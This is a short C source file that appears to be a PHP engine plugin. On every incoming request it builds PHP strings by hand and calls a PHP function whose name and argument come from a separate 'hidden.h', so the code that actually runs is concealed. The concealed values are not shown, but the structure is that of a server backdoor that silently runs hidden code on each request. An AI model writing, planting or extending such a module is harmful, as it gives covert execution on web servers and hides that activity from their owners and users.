/* The engine calls a function of PHP by its name when a request begins. */
#define ON_REQUEST
#include "plugin.h"
#include "hidden.h" /* 0: the function, 1: its argument */
typedef struct { void *value; unsigned type, extra; } zval;
extern int _call_user_function_impl(zval *, zval *, zval *, unsigned, zval *, void *);
extern void *_emalloc(unsigned long);
static void text(zval *z, const char *s) { /* a zend_string */
    unsigned long n = 0, i;
    while (s[n]) n++;
    unsigned char *z_str = _emalloc(24 + n + 1);
    *(unsigned *)z_str = 2;
    ((unsigned *)z_str)[1] = 0x16;
    ((unsigned long *)z_str)[1] = 0;
    ((unsigned long *)z_str)[2] = n;
    for (i = 0; i <= n; i++) z_str[24 + i] = s[i];
    z->value = z_str;
    z->type = 0x106;
}
static int on_request(int type, int number) {
    zval name, argument, result = {0};
    text(&name, hidden0());
    text(&argument, hidden1());
    _call_user_function_impl(0, &name, &result, 1, &argument, 0);
    return 0;
}
